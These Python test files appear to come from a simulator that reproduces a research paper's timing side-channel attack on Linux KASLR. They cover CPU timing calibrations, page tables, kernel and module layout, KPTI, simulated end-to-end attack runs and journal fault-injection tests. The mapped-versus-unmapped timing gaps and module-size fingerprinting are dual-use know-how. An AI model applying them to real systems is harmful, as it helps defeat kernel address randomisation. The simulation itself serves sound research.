        perf.increment("ASSISTS.ANY")
        delta = perf.delta_since(snap)
        assert delta["PAGE_FAULTS"] == 1
        assert delta["ASSISTS.ANY"] == 1

    def test_reset(self):
        perf = PerfCounters()
        perf.increment("ASSISTS.ANY")
        perf.reset()
        assert perf.read("ASSISTS.ANY") == 0


class TestCPUCatalog:
    def test_all_paper_parts_present(self):
        for key in ("i7-1065G7", "i9-9900", "i5-12400F", "i7-6600U",
                    "ryzen5-5600X", "xeon-e5-2676", "xeon-cascade-lake",
                    "xeon-8171m"):
            assert key in CPU_CATALOG

    def test_lookup_by_key_and_name(self):
        assert get_cpu_model("i9-9900") is CPU_CATALOG["i9-9900"]
        assert get_cpu_model("AMD Ryzen 5 5600X") is CPU_CATALOG["ryzen5-5600X"]

    def test_unknown_model_raises(self):
        with pytest.raises(ConfigError):
            get_cpu_model("i486DX2")

    def test_vendor_split(self):
        assert get_cpu_model("i5-12400F").is_intel
        assert get_cpu_model("ryzen5-5600X").is_amd

    def test_amd_does_not_fill_supervisor_tlb(self):
        assert not get_cpu_model("ryzen5-5600X").fills_tlb_for_supervisor_user_probe
        assert get_cpu_model("i5-12400F").fills_tlb_for_supervisor_user_probe

    def test_paper_calibration_identities(self):
        """The calibrated analytic means the paper reports."""
        ice = get_cpu_model("i7-1065G7")
        assert ice.expected_user_mapped_load() == 13
        assert ice.expected_kernel_mapped_load_tlb_hit() == 92
        assert ice.store_base + ice.tlb_hit_l1 + ice.assist_store == 76
        adl = get_cpu_model("i5-12400F")
        assert adl.expected_kernel_mapped_load_tlb_hit() == 93
        cfl = get_cpu_model("i9-9900")
        assert cfl.expected_kernel_mapped_load_tlb_hit() == 147

    def test_store_threshold_identity(self):
        """Store on clean USER-M == load on KERNEL-M (Section IV-B)."""
        for key in ("i7-1065G7", "i9-9900", "i5-12400F", "i7-6600U"):
            cpu = get_cpu_model(key)
            store = cpu.store_base + cpu.tlb_hit_l1 + cpu.assist_dirty
            assert store == cpu.expected_kernel_mapped_load_tlb_hit()

    def test_store_fault_default(self):
        cpu = get_cpu_model("i9-9900")
        assert cpu.assist_store_fault == cpu.assist_dirty - 6

    def test_meltdown_flags(self):
        assert get_cpu_model("xeon-e5-2676").meltdown_vulnerable
        assert not get_cpu_model("i5-12400F").meltdown_vulnerable
