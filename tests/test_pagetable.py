"""4-level page tables: mapping, permissions, lookups, KPTI sharing."""

import pytest

from repro.errors import MappingError
from repro.mmu.address import PAGE_SIZE, PAGE_SIZE_1G, PAGE_SIZE_2M
from repro.mmu.flags import PageFlags
from repro.mmu.pagetable import AddressSpace, PageTable

USER_RW = PageFlags.PRESENT | PageFlags.USER | PageFlags.WRITABLE
KERNEL = PageFlags.PRESENT


class TestMapping:
    def test_map_4k_and_lookup(self):
        table = PageTable()
        table.map(0x40_0000, 0x111, USER_RW)
        lookup = table.lookup(0x40_0ABC)
        assert lookup.present
        assert lookup.translation.pfn == 0x111
        assert lookup.translation.page_size == PAGE_SIZE
        assert lookup.translation.level_name == "PT"

    def test_map_2m(self):
        table = PageTable()
        table.map(PAGE_SIZE_2M * 3, 0x200, KERNEL, PAGE_SIZE_2M)
        lookup = table.lookup(PAGE_SIZE_2M * 3 + 0x1234)
        assert lookup.present
        assert lookup.translation.page_size == PAGE_SIZE_2M
        assert lookup.translation.level_name == "PD"
        assert lookup.translation.flags.huge

    def test_map_1g(self):
        table = PageTable()
        table.map(PAGE_SIZE_1G, 0x300, KERNEL, PAGE_SIZE_1G)
        lookup = table.lookup(PAGE_SIZE_1G + 0xABCDE)
        assert lookup.translation.level_name == "PDPT"

    def test_physical_address_of_4k(self):
        table = PageTable()
        table.map(0x40_0000, 0x111, USER_RW)
        t = table.lookup(0x40_0ABC).translation
        assert t.physical_address == 0x111 * PAGE_SIZE + 0xABC

    def test_physical_address_of_2m(self):
        table = PageTable()
        table.map(PAGE_SIZE_2M, 0x400, KERNEL, PAGE_SIZE_2M)
        t = table.lookup(PAGE_SIZE_2M + 0x12345).translation
        assert t.physical_address == 0x400 * PAGE_SIZE + 0x12345

    def test_unaligned_map_rejected(self):
        table = PageTable()
        with pytest.raises(MappingError):
            table.map(0x1234, 0x1, USER_RW)
        with pytest.raises(MappingError):
            table.map(PAGE_SIZE, 0x1, KERNEL, PAGE_SIZE_2M)

    def test_double_map_rejected(self):
        table = PageTable()
        table.map(0x1000, 0x1, USER_RW)
        with pytest.raises(MappingError):
            table.map(0x1000, 0x2, USER_RW)

    def test_nonpresent_map_rejected(self):
        with pytest.raises(MappingError):
            PageTable().map(0x1000, 0x1, PageFlags.NONE)

    def test_kernel_half_addresses(self):
        table = PageTable()
        va = 0xFFFF_FFFF_8000_0000
        table.map(va, 0x500, KERNEL, PAGE_SIZE_2M)
        assert table.lookup(va + 0x1000).present


class TestUnmapProtect:
    def test_unmap(self):
        table = PageTable()
        table.map(0x1000, 0x1, USER_RW)
        assert table.unmap(0x1000) == PAGE_SIZE
        assert not table.is_mapped(0x1000)

    def test_unmap_unmapped_raises(self):
        with pytest.raises(MappingError):
            PageTable().unmap(0x1000)

    def test_unmap_keeps_intermediate_structures(self):
        # a later walk of the same address terminates at the PT level
        table = PageTable()
        table.map(0x1000, 0x1, USER_RW)
        table.unmap(0x1000)
        assert table.lookup(0x1000).terminal_level == 3

    def test_lookup_terminal_level_without_structures(self):
        assert PageTable().lookup(0x1000).terminal_level == 0

    def test_protect_changes_flags(self):
        table = PageTable()
        table.map(0x1000, 0x1, USER_RW)
        table.protect(0x1000, PageFlags.PRESENT | PageFlags.USER | PageFlags.NX)
        flags = table.lookup(0x1000).translation.flags
        assert not flags.writable

    def test_protect_to_none_unmaps(self):
        table = PageTable()
        table.map(0x1000, 0x1, USER_RW)
        table.protect(0x1000, PageFlags.NONE)
        assert not table.is_mapped(0x1000)

    def test_protect_preserves_huge_bit(self):
        table = PageTable()
        table.map(PAGE_SIZE_2M, 0x2, KERNEL, PAGE_SIZE_2M)
        table.protect(PAGE_SIZE_2M, PageFlags.PRESENT | PageFlags.NX)
        assert table.lookup(PAGE_SIZE_2M).translation.flags.huge

    def test_set_flag(self):
        table = PageTable()
        table.map(0x1000, 0x1, USER_RW)
        table.set_flag(0x1000, PageFlags.DIRTY)
        assert table.lookup(0x1000).translation.flags.dirty


class TestWalkNodes:
    def test_walk_touches_four_levels_for_4k(self):
        table = PageTable()
        table.map(0x1000, 0x1, USER_RW)
        lookup = table.lookup(0x1000)
        assert [level for level, __ in lookup.nodes] == [0, 1, 2, 3]

    def test_walk_touches_three_levels_for_2m(self):
        table = PageTable()
        table.map(PAGE_SIZE_2M, 0x2, KERNEL, PAGE_SIZE_2M)
        lookup = table.lookup(PAGE_SIZE_2M)
        assert [level for level, __ in lookup.nodes] == [0, 1, 2]

    def test_nonpresent_walk_stops_at_missing_level(self):
        table = PageTable()
        table.map(0x1000, 0x1, USER_RW)        # creates PML4->PDPT->PD->PT
        lookup = table.lookup(0x3000)          # same PT, missing entry
        assert not lookup.present
        assert lookup.terminal_level == 3
        other = table.lookup(0x4000_0000_0000)  # different PML4 slot
        assert other.terminal_level == 0


class TestSharing:
    def test_share_top_level(self):
        kernel = PageTable()
        va = 0xFFFF_FFFF_8000_0000
        kernel.map(va, 0x10, KERNEL, PAGE_SIZE_2M)
        user = PageTable()
        user.share_top_level_from(kernel, 511)
        assert user.lookup(va).present
        # later kernel-side mappings in the same slot appear in both
        kernel.map(va + PAGE_SIZE_2M, 0x20, KERNEL, PAGE_SIZE_2M)
        assert user.lookup(va + PAGE_SIZE_2M).present

    def test_share_empty_slot_raises(self):
        with pytest.raises(MappingError):
            PageTable().share_top_level_from(PageTable(), 0)


class TestIteration:
    def test_iter_terminal_yields_all(self):
        table = PageTable()
        table.map(0x1000, 0x1, USER_RW)
        table.map(PAGE_SIZE_2M * 5, 0x2, KERNEL, PAGE_SIZE_2M)
        leaves = list(table.iter_terminal())
        bases = sorted(base for base, __, __ in leaves)
        assert bases == [0x1000, PAGE_SIZE_2M * 5]

    def test_iter_terminal_sign_extends_kernel(self):
        table = PageTable()
        va = 0xFFFF_FFFF_8000_0000
        table.map(va, 0x1, KERNEL, PAGE_SIZE_2M)
        (base, __, size), = list(table.iter_terminal())
        assert base == va
        assert size == PAGE_SIZE_2M


class TestAddressSpace:
    def test_map_range(self):
        space = AddressSpace()
        space.map_range(0x10000, 4 * PAGE_SIZE, USER_RW)
        for i in range(4):
            assert space.translate(0x10000 + i * PAGE_SIZE) is not None

    def test_map_range_contiguous_frames(self):
        space = AddressSpace()
        first = space.map_range(0x10000, 2 * PAGE_SIZE, USER_RW)
        t0 = space.translate(0x10000)
        t1 = space.translate(0x11000)
        assert t0.pfn == first
        assert t1.pfn == first + 1

    def test_huge_range_frame_stride(self):
        space = AddressSpace()
        first = space.map_range(0, 2 * PAGE_SIZE_2M, KERNEL, PAGE_SIZE_2M)
        assert space.translate(PAGE_SIZE_2M).pfn == first + 512

    def test_unmap_range(self):
        space = AddressSpace()
        space.map_range(0x10000, 2 * PAGE_SIZE, USER_RW)
        space.unmap_range(0x10000, 2 * PAGE_SIZE)
        assert space.translate(0x10000) is None

    def test_protect_range(self):
        space = AddressSpace()
        space.map_range(0x10000, PAGE_SIZE, USER_RW)
        space.protect_range(
            0x10000, PAGE_SIZE, PageFlags.PRESENT | PageFlags.USER
        )
        assert not space.translate(0x10000).flags.writable

    def test_bad_size_rejected(self):
        with pytest.raises(MappingError):
            AddressSpace().map_range(0x10000, 100, USER_RW)
