"""Integration tests pinning the paper's headline numbers end-to-end.

Each test reproduces one concrete claim from the paper on the full stack
(machine factory -> attack -> result), asserting the value the paper
reports within a tight tolerance.  These are the regression guards for the
calibration documented in EXPERIMENTS.md.
"""

import statistics

import pytest

from repro.attacks.kaslr_break import break_kaslr, break_kaslr_intel
from repro.attacks.module_detect import detect_modules
from repro.machine import Machine
from repro.mmu.address import PAGE_SIZE_2M


class TestSection3Numbers:
    def test_user_m_load_13_cycles_icelake(self):
        """Figure 2: USER-M masked load ~13 cycles, no assist."""
        machine = Machine.linux(cpu="i7-1065G7", seed=80)
        core = machine.core
        page = machine.playground.user_rw
        core.masked_load(page)
        result = core.masked_load(page)
        assert result.cycles == 13
        assert not result.assist

    def test_p4_381_vs_147_coffeelake(self):
        """Section III-B: TLB miss 381 vs hit 147 on the i9-9900."""
        machine = Machine.linux(cpu="i9-9900", seed=81)
        core = machine.core
        base = machine.kernel.base
        misses, hits = [], []
        for _ in range(100):
            core.evict_translation_caches()
            misses.append(core.masked_load(base).cycles)
            hits.append(core.masked_load(base).cycles)
        assert statistics.median(misses) == 381
        assert statistics.median(hits) == 147

    def test_p6_92_vs_76_icelake(self):
        """Section III-B: KERNEL-M load 92 vs store 76 (16-18 gap)."""
        machine = Machine.linux(cpu="i7-1065G7", seed=82)
        core = machine.core
        base = machine.kernel.base
        core.masked_load(base)
        load = core.masked_load(base).cycles
        store = core.masked_store(base).cycles
        assert load == 92 and store == 76
        assert 16 <= load - store <= 18

    def test_fig4_93_vs_107_alderlake(self):
        """Figure 4: mapped 93 vs unmapped 107 cycles on the i5-12400F."""
        machine = Machine.linux(seed=83)
        core = machine.core
        mapped = machine.kernel.base
        unmapped = mapped - PAGE_SIZE_2M
        core.masked_load(mapped)
        core.masked_load(unmapped)
        core.masked_load(unmapped)  # settle paging-line cache
        assert core.masked_load(mapped).cycles == 93
        assert core.masked_load(unmapped).cycles == 107


class TestTableIRuntimes:
    def test_alderlake_base_runtime(self):
        """Table I: 67 us probing / 0.28 ms total on the i5-12400F."""
        machine = Machine.linux(seed=84)
        result = break_kaslr_intel(machine)
        assert result.base == machine.kernel.base
        assert 0.05 < result.probing_ms < 0.11      # paper 0.067
        assert 0.2 < result.total_ms < 0.4          # paper 0.28

    def test_alderlake_modules_runtime(self):
        """Table I: 2.43 ms probing / 2.62 ms total on the i5-12400F."""
        machine = Machine.linux(seed=85)
        result = detect_modules(machine)
        assert 1.9 < result.probing_ms < 3.1        # paper 2.43
        assert 2.1 < result.total_ms < 3.3          # paper 2.62

    def test_icelake_base_runtime(self):
        """Table I: 0.26 ms probing / 0.57 ms total on the i7-1065G7."""
        machine = Machine.linux(cpu="i7-1065G7", seed=86)
        result = break_kaslr_intel(machine)
        assert result.base == machine.kernel.base
        assert 0.2 < result.probing_ms < 0.45
        assert 0.4 < result.total_ms < 0.8

    def test_ryzen_base_runtime(self):
        """Table I: 1.91 ms probing / 2.90 ms total on the 5600X."""
        machine = Machine.linux(cpu="ryzen5-5600X", seed=87)
        result = break_kaslr(machine)
        assert result.base == machine.kernel.base
        assert 1.2 < result.probing_ms < 2.8
        assert 2.0 < result.total_ms < 3.9

    def test_desktop_faster_than_mobile(self):
        """Table I ordering: the i5-12400F beats the i7-1065G7."""
        desktop = break_kaslr_intel(Machine.linux(seed=88))
        mobile = break_kaslr_intel(Machine.linux(cpu="i7-1065G7", seed=88))
        assert desktop.total_ms < mobile.total_ms


class TestFig4Shape:
    def test_contiguous_fast_run_at_base(self):
        """Figure 4: the fast plots form one run starting at the base."""
        machine = Machine.linux(seed=89)
        result = break_kaslr_intel(machine)
        slots = result.mapped_slots
        run = [slots[0]]
        for slot in slots[1:]:
            if slot == run[-1] + 1:
                run.append(slot)
        assert len(run) >= machine.kernel.image_2m_pages
        assert run[0] == result.slot

    def test_timing_gap_is_visible(self):
        machine = Machine.linux(seed=90)
        result = break_kaslr_intel(machine)
        mapped = sorted(result.timings[s] for s in result.mapped_slots)
        unmapped = sorted(
            t for i, t in enumerate(result.timings)
            if i not in set(result.mapped_slots)
        )
        # the slowest mapped probe is still faster than the fastest
        # unmapped probe: the bimodality of Figure 4
        assert mapped[-1] < unmapped[0]


class TestEndToEndDeterminism:
    def test_full_attack_reproducible(self):
        a = break_kaslr_intel(Machine.linux(seed=91))
        b = break_kaslr_intel(Machine.linux(seed=91))
        assert a.base == b.base
        assert a.timings == b.timings
        assert a.total_ms == b.total_ms

    def test_different_boots_different_bases_same_success(self):
        bases = set()
        for seed in range(92, 97):
            machine = Machine.linux(seed=seed)
            result = break_kaslr_intel(machine)
            assert result.base == machine.kernel.base
            bases.add(result.base)
        assert len(bases) >= 4
