"""Linux OS layer: KASLR policy, kernel image, modules, KPTI, procfs."""

import numpy as np
import pytest

from repro.mmu.address import PAGE_SIZE, PAGE_SIZE_2M
from repro.os.linux import layout
from repro.os.linux.kaslr import KASLRPolicy
from repro.os.linux.kernel import SYSCALL_TABLE, LinuxKernel
from repro.os.linux.modules import (
    MODULE_CATALOG,
    by_name,
    default_module_set,
    page_count_histogram,
    uniquely_sized,
)


class TestLayoutConstants:
    def test_kernel_window_is_1gib_512_slots(self):
        assert layout.KERNEL_TEXT_END - layout.KERNEL_TEXT_START == 1 << 30
        assert layout.KERNEL_TEXT_SLOTS == 512

    def test_module_window_is_64mib_16384_slots(self):
        assert layout.MODULE_END - layout.MODULE_START == 64 << 20
        assert layout.MODULE_SLOTS == 16384

    def test_slot_roundtrip(self):
        base = layout.kernel_base_of_slot(271)
        assert base == 0xFFFF_FFFF_A1E0_0000  # the paper's Figure 4 base
        assert layout.kernel_slot_of(base) == 271

    def test_trampoline_offsets(self):
        assert layout.KPTI_TRAMPOLINE_OFFSETS["5.11.0-27"] == 0xC0_0000
        assert layout.KPTI_TRAMPOLINE_OFFSETS["5.11.0-1020-aws"] == 0xE0_0000


class TestKASLRPolicy:
    def test_kernel_base_aligned_and_in_window(self):
        policy = KASLRPolicy(seed=0)
        for _ in range(100):
            base = policy.kernel_base()
            assert base % layout.KERNEL_ALIGN == 0
            assert layout.KERNEL_TEXT_START <= base < layout.KERNEL_TEXT_END

    def test_image_always_fits(self):
        policy = KASLRPolicy(seed=1)
        for _ in range(200):
            base = policy.kernel_base(image_2m_pages=22)
            end = base + 22 * PAGE_SIZE_2M
            assert end <= layout.KERNEL_TEXT_END

    def test_nokaslr_base_is_fixed(self):
        policy = KASLRPolicy(seed=2, enabled=False)
        assert policy.kernel_base() == 0xFFFF_FFFF_8100_0000
        assert policy.kernel_base() == policy.kernel_base()

    def test_entropy_is_used(self):
        policy = KASLRPolicy(seed=3)
        bases = {policy.kernel_base() for _ in range(64)}
        assert len(bases) > 32

    def test_deterministic_across_equal_seeds(self):
        assert KASLRPolicy(seed=7).kernel_base() == KASLRPolicy(seed=7).kernel_base()

    def test_user_bases_in_expected_regions(self):
        policy = KASLRPolicy(seed=4)
        text = policy.user_text_base()
        assert layout.USER_TEXT_REGION <= text < layout.USER_TEXT_REGION + (
            1 << 40
        )
        assert text % PAGE_SIZE == 0
        mmap_base = policy.user_mmap_base()
        assert layout.USER_MMAP_REGION <= mmap_base

    def test_module_area_start(self):
        policy = KASLRPolicy(seed=5)
        start = policy.module_area_start(4000)
        assert layout.MODULE_START <= start < layout.MODULE_END
        assert start % PAGE_SIZE == 0


class TestModuleCatalog:
    def test_125_modules(self):
        assert len(MODULE_CATALOG) == 125

    def test_19_unique_sizes(self):
        assert len(uniquely_sized()) == 19

    def test_paper_named_uniques(self):
        unique_names = {m.name for m in uniquely_sized()}
        assert {"video", "mac_hid", "pinctrl_icelake"} <= unique_names
        assert {"bluetooth", "psmouse"} <= unique_names

    def test_autofs4_x_tables_collide(self):
        assert by_name("autofs4").pages == by_name("x_tables").pages
        histogram = page_count_histogram()
        assert set(histogram[by_name("autofs4").pages]) == {
            "autofs4", "x_tables"
        }

    def test_no_duplicate_names(self):
        names = [m.name for m in MODULE_CATALOG]
        assert len(names) == len(set(names))

    def test_pages_consistent_with_bytes(self):
        for module in MODULE_CATALOG:
            assert module.pages == -(-module.size_bytes // PAGE_SIZE)
            assert module.pages >= 1

    def test_unknown_module_lookup(self):
        with pytest.raises(KeyError):
            by_name("nonexistent_driver")

    def test_default_set_is_fresh_list(self):
        a = default_module_set()
        b = default_module_set()
        assert a == list(MODULE_CATALOG)
        assert a is not b


class TestLinuxKernel:
    @pytest.fixture
    def kernel(self):
        return LinuxKernel(seed=42)

    def test_image_mapped_from_base(self, kernel):
        assert kernel.kernel_space.translate(kernel.base) is not None
        last = kernel.base + (kernel.image_2m_pages - 1) * PAGE_SIZE_2M
        assert kernel.kernel_space.translate(last) is not None

    def test_text_data_split_respects_wx(self, kernel):
        """Strict kernel memory permissions: no page is both W and X."""
        for base, entry, __ in kernel.kernel_space.page_table.iter_terminal():
            assert not (entry.flags.writable and entry.flags.executable)

    def test_kernel_pages_are_supervisor(self, kernel):
        translation = kernel.kernel_space.translate(kernel.base)
        assert not translation.flags.user

    def test_four_k_tail_pages(self, kernel):
        for offset in layout.KERNEL_4K_PAGE_OFFSETS:
            translation = kernel.kernel_space.translate(kernel.base + offset)
            assert translation is not None
            assert translation.page_size == PAGE_SIZE

    def test_slot_before_base_unmapped(self, kernel):
        if kernel.base > layout.KERNEL_TEXT_START:
            assert kernel.kernel_space.translate(
                kernel.base - PAGE_SIZE_2M
            ) is None

    def test_all_modules_loaded(self, kernel):
        assert len(kernel.module_map) == 125
        for name, (start, pages) in kernel.module_map.items():
            assert layout.MODULE_START <= start < layout.MODULE_END
            assert kernel.kernel_space.translate(start) is not None
            last_page = start + (pages - 1) * PAGE_SIZE
            assert kernel.kernel_space.translate(last_page) is not None

    def test_modules_separated_by_guard_pages(self, kernel):
        regions = sorted(kernel.module_map.values())
        for (start_a, pages_a), (start_b, __) in zip(regions, regions[1:]):
            end_a = start_a + pages_a * PAGE_SIZE
            assert start_b > end_a  # at least one unmapped page between
            assert kernel.kernel_space.translate(end_a) is None

    def test_kallsyms_contains_base_and_entry(self, kernel):
        symbols = kernel.kallsyms()
        assert symbols["_text"] == kernel.base
        assert symbols["entry_SYSCALL_64"] == kernel.base + kernel.trampoline_offset
        assert "sys_read" in symbols

    def test_proc_modules_hides_addresses(self, kernel):
        lines = kernel.proc_modules()
        assert len(lines) == 125
        name, size = lines[0]
        assert isinstance(name, str) and isinstance(size, int)

    def test_functions_at_constant_offsets_without_fgkaslr(self):
        a = LinuxKernel(seed=1)
        b = LinuxKernel(seed=2)
        for name in SYSCALL_TABLE[:5]:
            assert a.functions[name] - a.base == b.functions[name] - b.base

    def test_fgkaslr_shuffles_function_offsets(self):
        a = LinuxKernel(seed=1, fgkaslr=True)
        b = LinuxKernel(seed=2, fgkaslr=True)
        offsets_a = [a.functions[n] - a.base for n in SYSCALL_TABLE]
        offsets_b = [b.functions[n] - b.base for n in SYSCALL_TABLE]
        assert offsets_a != offsets_b

    def test_is_kernel_text_mapped_ground_truth(self, kernel):
        assert kernel.is_kernel_text_mapped(kernel.base)
        assert kernel.is_kernel_text_mapped(kernel.base + 0x1234)
        assert not kernel.is_kernel_text_mapped(layout.KERNEL_TEXT_START - 1)


class TestKPTI:
    @pytest.fixture
    def kernel(self):
        return LinuxKernel(seed=7, kpti=True)

    def test_kernel_not_in_user_table(self, kernel):
        assert kernel.user_space is not kernel.kernel_space
        assert kernel.user_space.translate(kernel.base) is None

    def test_trampoline_in_user_table(self, kernel):
        trampoline = kernel.base + kernel.trampoline_offset
        for i in range(layout.KPTI_TRAMPOLINE_PAGES):
            translation = kernel.user_space.translate(trampoline + i * PAGE_SIZE)
            assert translation is not None
            assert not translation.flags.user  # supervisor page

    def test_modules_not_in_user_table(self, kernel):
        start, __ = kernel.module_map["video"]
        assert kernel.user_space.translate(start) is None

    def test_non_kpti_shares_table(self):
        kernel = LinuxKernel(seed=7, kpti=False)
        assert kernel.user_space is kernel.kernel_space


class TestFlare:
    def test_flare_maps_all_text_slots(self):
        kernel = LinuxKernel(seed=9, flare=True)
        for slot in range(0, layout.KERNEL_TEXT_SLOTS, 17):
            va = layout.kernel_base_of_slot(slot)
            assert kernel.kernel_space.translate(va) is not None

    def test_flare_maps_module_window(self):
        kernel = LinuxKernel(seed=9, flare=True)
        for slot in range(0, layout.MODULE_SLOTS, 1111):
            va = layout.MODULE_START + slot * PAGE_SIZE
            assert kernel.kernel_space.translate(va) is not None


class TestKernelActivity:
    def test_syscall_loads_entry_translation(self):
        from repro.cpu.core import Core
        from repro.cpu.models import get_cpu_model

        kernel = LinuxKernel(seed=3)
        core = Core(get_cpu_model("i5-12400F"), seed=0)
        core.set_address_space(kernel.user_space)
        kernel.syscall(core, "sys_read")
        assert core.tlb.holds(kernel.entry_address)
        assert core.tlb.holds(kernel.functions["sys_read"])

    def test_touch_module_loads_translations(self):
        from repro.cpu.core import Core
        from repro.cpu.models import get_cpu_model

        kernel = LinuxKernel(seed=3)
        core = Core(get_cpu_model("i5-12400F"), seed=0)
        core.set_address_space(kernel.user_space)
        kernel.touch_module(core, "bluetooth", pages=4)
        start, __ = kernel.module_map["bluetooth"]
        for i in range(4):
            assert core.tlb.holds(start + i * PAGE_SIZE)
