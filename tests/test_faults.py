"""Infra fault injection: every injected fault ends typed, contained,
or cleanly degraded -- never as silent corruption.

Covers the fault-profile vocabulary, the seeded injector's determinism,
the hardened durable writers (:func:`repro.ioutil.append_durable`,
:func:`repro.ioutil.write_atomic`) under ENOSPC / EIO / torn writes,
the journal's tail repair and broken-flag discipline, power loss after
lying fsyncs, and heartbeat clock skew against the supervised pool.
"""

import errno
import json
import os
import pathlib

import pytest

from repro.campaign import journal as wal
from repro.campaign.journal import CampaignJournal, fold_records, replay
from repro.campaign.pool import FAILED, OK, SupervisedPool
from repro.errors import ConfigError, JournalWriteError
from repro.faults import (
    FAULT_KINDS,
    FAULT_PROFILES,
    FaultInjected,
    FaultInjector,
    FaultProfile,
    get_fault_profile,
)
from repro.ioutil import append_durable, write_atomic, write_json_atomic


def _tick(payload):
    return payload * 2


def _nap(seconds):
    import time
    time.sleep(seconds)
    return "woke"


# -- profiles ------------------------------------------------------------------


class TestFaultProfiles:
    def test_registry_profiles_are_valid(self):
        for name, profile in FAULT_PROFILES.items():
            assert profile.name == name
            for kind in profile.active_kinds:
                assert kind in FAULT_KINDS

    def test_default_profile_exercises_every_kind(self):
        # the acceptance contract: the default profile keeps every
        # fault kind alive, so the fault matrix is fully covered
        assert FAULT_PROFILES["default"].active_kinds == list(FAULT_KINDS)

    def test_unknown_kind_rejected(self):
        with pytest.raises(ConfigError):
            FaultProfile("bad", "x", {"phase-of-moon": 0.5})

    def test_out_of_range_rate_rejected(self):
        with pytest.raises(ConfigError):
            FaultProfile("bad", "x", {"eio": 1.5})

    def test_resolve_by_name_dict_instance_and_path(self, tmp_path):
        assert get_fault_profile(None) is None
        by_name = get_fault_profile("disk-full")
        assert by_name.rates["enospc"] == 0.25
        assert get_fault_profile(by_name) is by_name
        by_dict = get_fault_profile(
            {"name": "mine", "rates": {"torn": 0.125}}
        )
        assert by_dict.rates["torn"] == 0.125
        path = tmp_path / "profile.json"
        path.write_text(json.dumps(
            {"name": "filed", "rates": {"stall": 0.5}, "stall_s": 0.001}
        ))
        by_path = get_fault_profile(str(path))
        assert by_path.rates["stall"] == 0.5
        assert by_path.stall_s == 0.001
        with pytest.raises(ConfigError):
            get_fault_profile("no-such-profile")

    def test_as_dict_round_trips(self):
        profile = FaultProfile("rt", "x", {"eio": 0.25}, shards=[1, 3])
        clone = FaultProfile.from_dict(profile.as_dict())
        assert clone.rates == profile.rates
        assert clone.shards == (1, 3)
        assert clone.applies_to(1) and not clone.applies_to(0)

    def test_shard_restriction_defaults_to_all(self):
        profile = FaultProfile("all", "x", {"eio": 1.0})
        assert profile.applies_to(0) and profile.applies_to(7)


# -- injector determinism ------------------------------------------------------


class TestInjectorDeterminism:
    def test_same_seed_same_fired_sequence(self, tmp_path):
        profile = FaultProfile("p", "x", {"eio": 0.3},
                               enospc_sticky=False)

        def draw_sequence(seed):
            injector = FaultInjector(profile, seed=seed)
            fired = []
            for i in range(64):
                path = tmp_path / "f-{}-{}.bin".format(seed, i)
                with open(path, "ab") as handle:
                    try:
                        append_durable(handle, b"x\n", faults=injector)
                        fired.append(False)
                    except FaultInjected:
                        fired.append(True)
            return fired

        first = draw_sequence(42)
        assert first == draw_sequence(42)
        assert any(first) and not all(first)
        assert first != draw_sequence(43)


# -- append_durable under injected disk faults ---------------------------------


class TestAppendDurableFaults:
    @pytest.mark.parametrize("kind,expected_errno", [
        ("enospc", errno.ENOSPC),
        ("eio", errno.EIO),
    ])
    def test_fail_before_any_byte(self, tmp_path, kind, expected_errno):
        """ENOSPC / EIO appends leave no partial line for replay."""
        profile = FaultProfile("p", "x", {kind: 1.0},
                               enospc_sticky=False)
        injector = FaultInjector(profile)
        path = tmp_path / "j.jsonl"
        with open(path, "ab") as handle:
            append_durable(handle, wal.seal({"type": "unit-start",
                                             "unit": "u"}))
            before = path.read_bytes()
            with pytest.raises(FaultInjected) as excinfo:
                append_durable(handle, wal.seal({"type": "unit-finish",
                                                 "unit": "u"}),
                               faults=injector)
            handle.flush()
        assert excinfo.value.errno == expected_errno
        assert excinfo.value.kind == kind
        assert path.read_bytes() == before
        records, good = replay(path)
        assert len(records) == 1 and good == len(before)

    def test_sticky_enospc_stays_full(self, tmp_path):
        injector = FaultInjector(FAULT_PROFILES["disk-full"], seed=1)
        path = tmp_path / "j.jsonl"
        failures = 0
        with open(path, "ab") as handle:
            for __ in range(32):
                try:
                    append_durable(handle, b"line\n", faults=injector)
                except FaultInjected:
                    failures += 1
            # once ENOSPC fires, every later append fails too
            with pytest.raises(FaultInjected):
                for __ in range(64):
                    append_durable(handle, b"line\n", faults=injector)
        assert failures > 0

    def test_torn_write_leaves_prefix_replay_truncates(self, tmp_path):
        profile = FaultProfile("p", "x", {"torn": 1.0})
        injector = FaultInjector(profile)
        path = tmp_path / "j.jsonl"
        line = wal.seal({"type": "unit-start", "unit": "u"})
        with open(path, "ab") as handle:
            append_durable(handle, wal.seal({"type": "campaign-start"}))
            good_size = handle.tell()
            with pytest.raises(FaultInjected):
                append_durable(handle, line, faults=injector)
            handle.flush()
        torn = path.read_bytes()
        assert len(torn) > good_size  # a real torn prefix landed
        assert len(torn) < good_size + len(line.encode("utf-8"))
        records, good = replay(path)  # replay tolerates the torn tail
        assert len(records) == 1 and good == good_size


# -- write_atomic under injected disk faults -----------------------------------


class TestWriteAtomicFaults:
    @pytest.mark.parametrize("kind", ["enospc", "eio"])
    def test_target_untouched_and_tmp_cleaned(self, tmp_path, kind):
        profile = FaultProfile("p", "x", {kind: 1.0},
                               enospc_sticky=False)
        injector = FaultInjector(profile)
        target = tmp_path / "store.json"
        target.write_text("{\"old\": true}\n")
        with pytest.raises(FaultInjected):
            write_json_atomic(target, {"new": True}, faults=injector)
        assert json.loads(target.read_text()) == {"old": True}
        leftovers = [p for p in tmp_path.iterdir() if p != target]
        assert leftovers == []  # no *.tmp debris

    def test_success_path_still_fsyncs_directory(self, tmp_path,
                                                 monkeypatch):
        """The directory fsync survives the faults plumbing."""
        import repro.ioutil as ioutil

        synced = []
        real = ioutil.fsync_directory
        monkeypatch.setattr(
            ioutil, "fsync_directory",
            lambda path: (synced.append(os.fspath(path)), real(path))[1],
        )
        injector = FaultInjector(FaultProfile("quiet", "x", {}))
        write_atomic(tmp_path / "out.txt", "data", faults=injector)
        assert synced and synced[0] == os.fspath(tmp_path)


# -- the journal under faults --------------------------------------------------


class TestJournalFaults:
    def test_torn_append_repairs_tail_and_breaks_journal(self, tmp_path):
        profile = FaultProfile("p", "x", {"torn": 1.0})
        path = tmp_path / "j.jsonl"
        journal = CampaignJournal(path)
        with journal:
            journal.open()
            journal.append(wal.UNIT_START, unit="u", attempt=0)
            good = path.read_bytes()
            journal.faults = FaultInjector(profile)
            with pytest.raises(JournalWriteError) as excinfo:
                journal.append(wal.UNIT_FINISH, unit="u", attempt=0,
                               result={"passed": True})
            assert excinfo.value.errno == errno.EIO
            assert excinfo.value.path == str(path)
            # tail repaired: the torn prefix is gone, bytes are exactly
            # the pre-append journal
            assert path.read_bytes() == good
